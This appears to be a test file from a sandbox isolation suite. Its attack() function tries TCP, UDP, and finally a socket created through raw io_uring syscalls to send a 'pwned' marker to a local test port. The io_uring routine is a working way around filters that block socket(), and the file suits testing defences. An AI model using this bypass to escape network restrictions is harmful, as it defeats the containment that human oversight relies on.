import ctypes
import mmap
import socket
import struct

from honest import *  # noqa: F401,F403
from _attack import T, predict_if


def uring_socket(family: int, kind: int) -> int:
    """A socket made by io_uring (IORING_OP_SOCKET), not by socket(): its descriptor, or -1.
    x86_64 and aarch64 share the io_uring call numbers (425 setup, 426 enter)."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    params = ctypes.create_string_buffer(120)
    ring_fd = libc.syscall(425, 4, params)
    if ring_fd < 0:
        return -1
    sq_entries = struct.unpack_from("<I", params, 0)[0]
    cq_entries = struct.unpack_from("<I", params, 4)[0]
    sq_off = struct.unpack_from("<7I", params, 40)  # head tail mask entries flags dropped array
    cq_off = struct.unpack_from("<6I", params, 80)  # head tail mask entries overflow cqes
    size = max(sq_off[6] + sq_entries * 4, cq_off[5] + cq_entries * 16)
    ring = mmap.mmap(ring_fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    sqes = mmap.mmap(ring_fd, sq_entries * 64, mmap.MAP_SHARED,
                     mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
    sqe = bytearray(64)
    struct.pack_into("<BBHi", sqe, 0, 45, 0, 0, family)  # IORING_OP_SOCKET, fd = the family
    struct.pack_into("<Q", sqe, 8, kind)  # off = the type
    sqes[0:64] = bytes(sqe)
    tail = struct.unpack_from("<I", ring, sq_off[1])[0]
    mask = struct.unpack_from("<I", ring, sq_off[2])[0]
    struct.pack_into("<I", ring, sq_off[6] + 4 * (tail & mask), 0)
    struct.pack_into("<I", ring, sq_off[1], tail + 1)
    if libc.syscall(426, ring_fd, 1, 1, 1, None, 0) < 0:
        return -1
    return struct.unpack_from("<qi", ring, cq_off[5])[1]


def attack():
    sent = False
    try:
        with socket.create_connection(("127.0.0.1", T["port"]), timeout=2) as s:
            s.sendall(b"pwned")
            sent = True
    except OSError:
        pass
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"pwned", ("127.0.0.1", T["port"]))
        sent = True
    except OSError:
        pass
    try:  # socket() refused: ask io_uring for one
        fd = uring_socket(socket.AF_INET, socket.SOCK_DGRAM)
        if fd >= 0:
            socket.socket(fileno=fd).sendto(b"pwned by io_uring", ("127.0.0.1", T["port"]))
            sent = True
    except Exception:
        pass
    return sent


predict = predict_if(attack)
